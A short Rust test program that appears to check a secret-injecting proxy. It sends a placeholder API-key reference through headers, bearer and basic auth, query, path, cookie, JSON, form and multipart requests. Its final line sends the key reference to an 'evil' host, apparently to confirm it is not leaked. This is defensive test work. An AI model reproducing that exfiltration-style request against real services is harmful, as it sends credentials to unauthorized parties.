//! Rust's reqwest, with the system's roots.

use reqwest::blocking::{Client, RequestBuilder, Response, multipart::Form};

const REF: &str = "{secrets.crm.apiKey}";

fn ok(request: RequestBuilder) -> Response {
    let answer = request.send().expect("an answer");
    assert_eq!(answer.status(), 200, "{}", answer.url());
    answer
}

fn main() {
    let arguments: Vec<String> = std::env::args().collect();
    let [_, base, evil, address] = &arguments[..] else { panic!("BASE EVIL ADDRESS") };
    let client = Client::new();
    ok(client.get(format!("{base}/header")).header("X-Api-Key", REF));
    ok(client.get(format!("{base}/bearer")).bearer_auth(REF));
    ok(client.get(format!("{base}/query")).query(&[("k", REF)]));
    ok(client.get(format!("{base}/path/{REF}/x")));
    ok(client.get(format!("{base}/basic")).basic_auth("me", Some(REF)));
    ok(client.get(format!("{base}/cookie")).header("Cookie", format!("s={REF}")));
    ok(client.post(format!("{base}/json")).json(&serde_json::json!({ "k": REF })));
    ok(client.post(format!("{base}/form")).form(&[("k", REF)]));
    ok(client.post(format!("{base}/multipart")).multipart(Form::new().text("k", REF)));
    ok(client.get(format!("{address}/address")).header("X-Api-Key", "{secrets.open}"));
    println!("version {:?}", ok(client.get(format!("{base}/version"))).version());
    println!("{}", client.get(format!("{evil}/")).header("X", REF).send().expect("an answer").text().expect("a text"));
}
